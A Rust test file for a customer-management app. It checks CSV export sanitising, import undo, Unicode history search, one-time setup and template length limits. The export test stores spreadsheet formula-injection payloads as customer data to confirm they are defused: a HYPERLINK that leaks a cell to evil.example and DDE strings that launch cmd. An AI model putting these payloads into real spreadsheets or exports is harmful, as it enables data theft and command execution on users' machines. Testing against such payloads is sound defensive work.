//! Holes found by attacking the app as a careless user or a hostile file
//! would, each closed and kept closed here: formulas in a CSV export,
//! undoing an import after one of its customers was deleted, history
//! search on text whose lower case is longer, setting up twice, letters
//! too long to render.

mod common;

use common::{form, TestShop};
use dangol_core::data::import::dupes::DuplicateChoice;
use dangol_core::data::import::plan::ImportOptions;
use dangol_core::letters::builtin::Occasion;
use dangol_core::letters::store::LetterTemplate;
use dangol_core::letters::template::{self, TemplateProblemCode, MAX_TEMPLATE_CHARS};
use dangol_core::{FieldErrorCode, Language, SetupInput};

/// The cells of a CSV Dangol wrote (BOM stripped), row by row.
fn csv_cells(path: &std::path::Path) -> Vec<Vec<String>> {
    let bytes = std::fs::read(path).unwrap();
    let text = String::from_utf8(bytes[3..].to_vec()).unwrap();
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text.as_bytes())
        .records()
        .map(|r| r.unwrap().iter().map(String::from).collect())
        .collect()
}

#[test]
fn a_csv_export_never_hands_excel_a_formula_and_still_reads_back() {
    let t = TestShop::new();
    let hostile = [
        ("=1+2", "=HYPERLINK(\"http://evil.example/?\"&A1,\"클릭\")"),
        ("+SUM(1,2)", "@SUM(A1:A9)"),
        ("-2+3+cmd|' /C calc'!A0", "=cmd|' /C notepad'!A0"),
    ];
    for (i, (name, memo)) in hostile.iter().enumerate() {
        let mut input = form(name, &format!("010-5000-100{i}"), "");
        input.memo = memo.to_string();
        t.shop.create_customer(&input).unwrap();
    }
    // A phone written with its country code, and a memo that is only a
    // number: no function can hide in them, so they stay as typed.
    let mut abroad = form("Jane Park", "+1 213-555-0142", "");
    abroad.memo = "+82 10-1234-5678".into();
    t.shop.create_customer(&abroad).unwrap();

    let path = t.dir.path().join("고객.csv");
    t.shop.export_customers(&path, false).unwrap();
    let rows = csv_cells(&path);
    for row in &rows[1..] {
        for cell in row {
            let first = cell.chars().next();
            let risky = matches!(first, Some('=' | '+' | '-' | '@' | '\t' | '\r'));
            let only_a_number = cell
                .chars()
                .skip(1)
                .all(|c| c.is_ascii_digit() || " -().".contains(c));
            assert!(
                !risky || only_a_number,
                "Excel would run {cell:?} as a formula"
            );
        }
    }
    let memos: Vec<&str> = rows.iter().map(|r| r[10].as_str()).collect();
    assert!(memos.contains(&"'=HYPERLINK(\"http://evil.example/?\"&A1,\"클릭\")"));
    assert!(memos.contains(&"+82 10-1234-5678"), "{memos:?}");

    // Read back, every name and memo is what the owner typed.
    let other = TestShop::new();
    other
        .shop
        .import_file(&path, &ImportOptions::default())
        .unwrap();
    for (name, memo) in hostile.iter().chain([&("Jane Park", "+82 10-1234-5678")]) {
        let hits = other.shop.search(name, 5).hits;
        let back = other.shop.get_customer(hits[0].id).unwrap();
        assert_eq!((back.name.as_str(), back.memo.as_str()), (*name, *memo));
    }
}

#[test]
fn undoing_an_import_after_one_of_its_merged_customers_was_deleted() {
    let t = TestShop::new();
    let kept = t
        .shop
        .create_customer(&form("김민수", "010-2345-6789", ""))
        .unwrap();
    let gone = t
        .shop
        .create_customer(&form("이서연", "010-3456-7890", ""))
        .unwrap();
    let path = t.dir.path().join("m.csv");
    std::fs::write(
        &path,
        "이름,휴대폰,이메일\n김민수,010-2345-6789,minsu@example.com\n\
         이서연,010-3456-7890,seoyeon@example.com\n박새손님,010-4567-8901,\n",
    )
    .unwrap();
    let opts = ImportOptions {
        duplicates: [(2, DuplicateChoice::Merge), (3, DuplicateChoice::Merge)].into(),
        ..Default::default()
    };
    let outcome = t.shop.import_file(&path, &opts).unwrap();
    assert_eq!((outcome.added, outcome.merged), (1, 2));
    t.shop.delete_customer(gone.id).unwrap();

    assert_eq!(t.shop.undo_import(outcome.batch_id).unwrap(), 1);
    assert_eq!(t.shop.get_customer(kept.id).unwrap(), kept, "put back");
    assert!(t.shop.get_customer(gone.id).is_err(), "still deleted");
    assert!(t.shop.search("박새손님", 5).hits.is_empty());
}

#[test]
fn history_search_on_text_whose_lower_case_is_longer() {
    let t = TestShop::new();
    let id = common::customer(&t, "Ayşe Yılmaz");
    // 'İ' lower-cases to two characters (i + a combining dot): positions in
    // the lower-cased text run ahead of the original.
    let note = format!("{} İstanbul'dan sipariş 배송문의 ẞ", "İ".repeat(60));
    t.shop.add_note(id, &note, None).unwrap();
    for query in ["배송", "sipariş", "stanbul", "ß"] {
        let hits = t.shop.search_history(query, 10).unwrap();
        assert_eq!(hits.len(), 1, "{query}");
        assert!(!hits[0].snippet.is_empty(), "{query}");
    }
    let hits = t.shop.search_history("배송", 10).unwrap();
    assert!(hits[0].snippet.contains("배송문의"), "{}", hits[0].snippet);
}

#[test]
fn the_first_run_setup_happens_once() {
    let t = TestShop::new();
    let setup = SetupInput {
        shop_name: "행복한 세탁소".into(),
        country: dangol_core::Country::KR,
        language: Language::Ko,
        with_sample: true,
    };
    t.shop.finish_setup(&setup).unwrap();
    let customers = t.shop.customer_count().unwrap();
    assert!(customers > 100);
    let again = t.shop.finish_setup(&SetupInput {
        shop_name: "다른 가게".into(),
        ..setup
    });
    let codes = common::field_codes(again.unwrap_err());
    assert_eq!(
        codes,
        [("setup".to_string(), FieldErrorCode::InvalidTransition)]
    );
    assert_eq!(
        t.shop.customer_count().unwrap(),
        customers,
        "no second sample"
    );
    assert_eq!(t.shop.settings().unwrap().shop_name, "행복한 세탁소");
}

#[test]
fn a_template_too_long_is_refused_and_running_out_of_fuel_says_so() {
    let t = TestShop::new();
    let id = common::customer(&t, "김민수");
    // Longer than any letter: refused when checked, when previewed and
    // when saved, with its own code.
    let long = "가".repeat(MAX_TEMPLATE_CHARS + 1);
    let codes = |p: Vec<template::TemplateProblem>| p.iter().map(|p| p.code).collect::<Vec<_>>();
    assert_eq!(
        codes(template::check(&long)),
        [TemplateProblemCode::TooLong]
    );
    let preview = t.shop.preview_letter("제목", &long, id, None).unwrap();
    assert_eq!(codes(preview.unwrap_err()), [TemplateProblemCode::TooLong]);
    let saved = t.shop.save_letter_template(&LetterTemplate {
        occasion: Occasion::ThankYou,
        language: Language::Ko,
        title: "감사합니다".into(),
        body: long,
        advertising: false,
        edited: true,
    });
    assert_eq!(
        common::field_codes(saved.unwrap_err()),
        [("body".to_string(), FieldErrorCode::TooLong)]
    );
    // Within the limit, a template that makes the renderer work too hard
    // is "too complex", not an unknown placeholder.
    let heavy = "{이름}{을/를}".repeat(MAX_TEMPLATE_CHARS / 9);
    assert!(template::check(&heavy).is_empty());
    let preview = t.shop.preview_letter("제목", &heavy, id, None).unwrap();
    assert_eq!(
        codes(preview.unwrap_err()),
        [TemplateProblemCode::TooComplex]
    );
    // An ordinary long letter renders.
    let letter = "{이름} 님, 늘 감사합니다. ".repeat(200);
    assert!(t
        .shop
        .preview_letter("제목", &letter, id, None)
        .unwrap()
        .is_ok());
}
